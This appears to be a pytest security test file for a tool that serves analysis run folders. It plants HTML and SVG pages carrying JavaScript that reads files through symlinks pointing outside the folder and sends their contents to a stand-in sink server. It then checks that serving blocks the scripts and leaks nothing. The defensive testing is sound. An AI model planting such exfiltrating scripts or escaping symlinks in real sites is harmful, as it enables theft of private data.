"""Does anything in a stranger's run folder act, ask or read, when the folder is served?"""

from __future__ import annotations

import hashlib
import re
import threading
from http.server import BaseHTTPRequestHandler, HTTPServer

import h5py
import pytest

from conftest import run_of
from headscope.live.access import NOBODY
from headscope.live.run_pages import FILE, RunPages
from headscope.run.store import RunFolder
from headscope.run.written_files import LIST
from live.conftest import TOKEN, serving
from live.test_access import Model

SECRET = "the private words of another folder"
SCRIPT = """
for (const place of ["../", "../tables/secret.csv", "tables/secret.csv"])
  fetch(place).then((answer) => answer.text()).then((text) => {
    new Image().src = "SINK?" + encodeURIComponent(text.slice(0, 2000));
    location = "SINK?" + encodeURIComponent(text.slice(0, 2000));
  });
alert(1); document.title = "taken";
"""
PAGE = '<!doctype html><title>x</title><img src=SINK><body onload="alert(2)"><script>{}</script>'
PICTURE = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(3)"><script>{}</script></svg>'


@pytest.fixture
def sink():
    """The address of a server of somebody else, and what it was asked."""
    asked = []

    class Listening(BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append((self.path, dict(self.headers)))
            self.send_response(204)
            self.end_headers()

        def log_message(self, *_):
            pass

    with HTTPServer(("127.0.0.1", 0), Listening) as server:
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01})
        thread.start()
        yield f"http://127.0.0.1:{server.server_port}/", asked
        server.shutdown()
        thread.join()


@pytest.fixture
def foreign(tiny, tmp_path, sink):
    """A finished run to which a stranger added pages, pictures and links."""
    run = run_of(tiny, tmp_path / "run", analyses=("surface",))
    script = SCRIPT.replace("SINK", sink[0])
    (tmp_path / "outside.csv").write_text(SECRET)
    planted = {
        "report.html": PAGE,
        "index.html": PAGE,
        "views/01.html": PAGE,
        "figures/own.svg": PICTURE,
        "figures/heads.svg": PICTURE,
        "tables/page.html": PAGE,
    }
    for name, text in planted.items():
        (run.path / name).parent.mkdir(exist_ok=True)
        (run.path / name).write_text(text.replace("{}", script).replace("SINK", sink[0]))
    (run.path / "tables/secret.csv").symlink_to(tmp_path / "outside.csv")
    (run.path / "beyond").symlink_to(tmp_path)
    names = [*planted, "tables/secret.csv", "beyond/outside.csv"]
    (run.path / LIST).write_text("\n".join(names))
    return run.path, names


def test_a_strangers_run_runs_no_script_asks_for_nothing_and_reads_nothing_outside(
    foreign, sink, watched
):
    """Its report.html was served as our own page: it read the live page, and sent it away."""
    folder, names = foreign
    with serving(Model(), "x", pages=RunPages(folder)) as server:
        origin = f"http://127.0.0.1:{server.port}/{TOKEN}/"
        page = watched(f"{origin}run/", within=(origin,))
        linked = [one.get_attribute("href") for one in page.locator("a[href]").all()]
        linked = [name for name in linked if not re.search("[#:]|parquet$", name)]
        assert {"report.html", "heads.html", "tables/heads.csv"} <= set(linked)
        shown = [name for name in {*linked, *names} if not name.endswith(("csv", "bib", "tex"))]
        for name in sorted(shown):
            page.goto(f"{origin}run/{name}")
            assert page.title() != "taken"
        for name in {*linked, *names}:
            answer = page.request.get(f"{origin}run/{name}")
            assert answer.status == (200 if name in {*linked, "index.html"} else 404), name
            assert not re.search(f"{SECRET}|alert\\(|{re.escape(sink[0])}", answer.text()), name
            policy = answer.headers["content-security-policy"]
            assert name.endswith(".html") or policy in (FILE, NOBODY)
    assert sink[1] == []
    watched.complaints[:] = [one for one in watched.complaints if "status of 404" not in one]


def test_of_results_that_no_code_of_ours_wrote_the_pages_say_so(tiny, tmp_path):
    """The command ended before it served anything: "this is an error of headscope"."""
    folder = RunFolder(run_of(tiny, tmp_path / "run", analyses=("surface",)).path)
    results = folder.path / "atlas.nc"
    with h5py.File(results, "r+") as file:
        del file["surface/attention"]
    digest = hashlib.sha256(results.read_bytes()).hexdigest()
    folder.write_manifest({**folder.manifest(), "results_sha256": digest})
    pages = RunPages(folder.path)
    assert pages.labels() is None
    assert b"cannot be shown" in pages.get("").content
